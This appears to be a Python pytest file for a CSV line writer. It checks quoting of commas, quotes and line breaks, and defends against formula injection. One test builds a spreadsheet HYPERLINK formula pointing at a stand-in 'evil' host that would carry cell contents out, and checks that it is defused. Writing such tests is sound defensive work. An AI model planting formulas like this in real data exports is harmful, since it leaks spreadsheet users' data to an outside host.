"""Lines of comma-separated values."""

import csv
from io import StringIO

import pytest

from schemas.values.csv_lines import csv_line


def test_line_is_quoted_where_it_has_to_be() -> None:
    values = ("plain", None, 1.5, 'say "yes"', "a,b", "two\r\nlines", "é")
    line = csv_line(values)
    assert line == 'plain,,1.5,"say ""yes""","a,b","two\r\nlines",é\r\n'
    (read,) = csv.reader(StringIO(line, newline=""))
    assert read == ["plain", "", "1.5", *values[3:]]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_text_is_no_formula(begin: str) -> None:
    text = f'{begin}HYPERLINK("http://evil/"&A1)'
    (read,) = csv.reader(StringIO(csv_line([text]), newline=""))
    assert read == [f"'{text}"]


def test_number_stays_one() -> None:
    assert csv_line([-1, "1-2", "a=b"]) == "-1,1-2,a=b\r\n"
